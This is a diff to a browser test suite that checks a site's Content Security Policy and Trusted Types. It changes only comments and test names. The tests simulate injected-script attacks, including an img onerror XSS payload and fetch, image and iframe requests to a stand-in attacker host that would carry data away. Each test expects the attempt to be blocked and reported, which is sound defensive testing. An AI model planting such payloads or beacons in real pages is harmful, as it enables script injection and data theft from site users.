@@ -3,7 +3,7 @@ import { expect, open, test } from './site';
 
 test.describe.configure({ retries: 0 });
 
-/** What a script that got into a page would try. None of it may happen, and each try must be seen. */
+/** What an injected script would try. Each attempt must be blocked and reported. */
 const BREACHES: Record<string, (page: Page) => Promise<unknown>> = {
   'an inline script': (page) =>
     page.evaluate(() => {
@@ -17,7 +17,7 @@ const BREACHES: Record<string, (page: Page) => Promise<unknown>> = {
         document.body.setAttribute('onclick', 'window.ran = true');
         document.body.click();
       } catch {
-        // Trusted Types refuse it.
+        // Blocked by Trusted Types.
       }
     }),
   'text as HTML': (page) =>
@@ -25,7 +25,7 @@ const BREACHES: Record<string, (page: Page) => Promise<unknown>> = {
       try {
         document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = true">');
       } catch {
-        // Trusted Types refuse it.
+        // Blocked by Trusted Types.
       }
     }),
   'text as code': (page) =>
@@ -33,36 +33,36 @@ const BREACHES: Record<string, (page: Page) => Promise<unknown>> = {
       try {
         setTimeout('window.ran = true', 0);
       } catch {
-        // Trusted Types refuse it.
+        // Blocked by Trusted Types.
       }
     }),
-  'a policy of its own': (page) =>
+  'another Trusted Types policy': (page) =>
     page.evaluate(() => {
       try {
         Reflect.get(window, 'trustedTypes').createPolicy('mine', { createHTML: (html: string) => html });
       } catch {
-        // No name but the site's own is allowed.
+        // Only the site's own policy name is allowed.
       }
     }),
   'a connection to another site': (page) =>
     page.evaluate(() => fetch('https://evil.example/').catch(() => {})),
-  'an image that carries data away': (page) =>
+  'an image that exfiltrates data': (page) =>
     page.evaluate(() => {
       document.body.append(Object.assign(new Image(), { src: 'https://evil.example/?data' }));
     }),
-  'a base address': (page) =>
+  'a base element': (page) =>
     page.evaluate(() => {
       document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
     }),
-  'a frame of another site': (page) =>
+  'an iframe from another site': (page) =>
     page.evaluate(() => {
       document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
     }),
 };
 
 for (const [name, breach] of Object.entries(BREACHES)) {
-  test(`${name} is refused, and the suite sees it`, async ({ context, violations }) => {
-    // Not the fixture's page, which complains of every error by itself.
+  test(`${name} is blocked, and the suite detects it`, async ({ context, violations }) => {
+    // The `page` fixture would fail on these errors.
     const page = await context.newPage();
     await open(page, '/about');
     expect(violations).toEqual([]);
@@ -70,12 +70,12 @@ for (const [name, breach] of Object.entries(BREACHES)) {
     await expect.poll(() => violations.length).toBeGreaterThan(0);
     expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
     await page.close();
-    // What was meant to be seen was seen.
+    // These violations were intended.
     violations.length = 0;
   });
 }
 
-test('the one policy that makes scripts knows the site’s own alone', async ({ page }) => {
+test("the only Trusted Types policy for scripts accepts the site's own scripts alone", async ({ page }) => {
   await open(page, '/about');
   const isRefused = (src: string) =>
     page.evaluate((address) => {
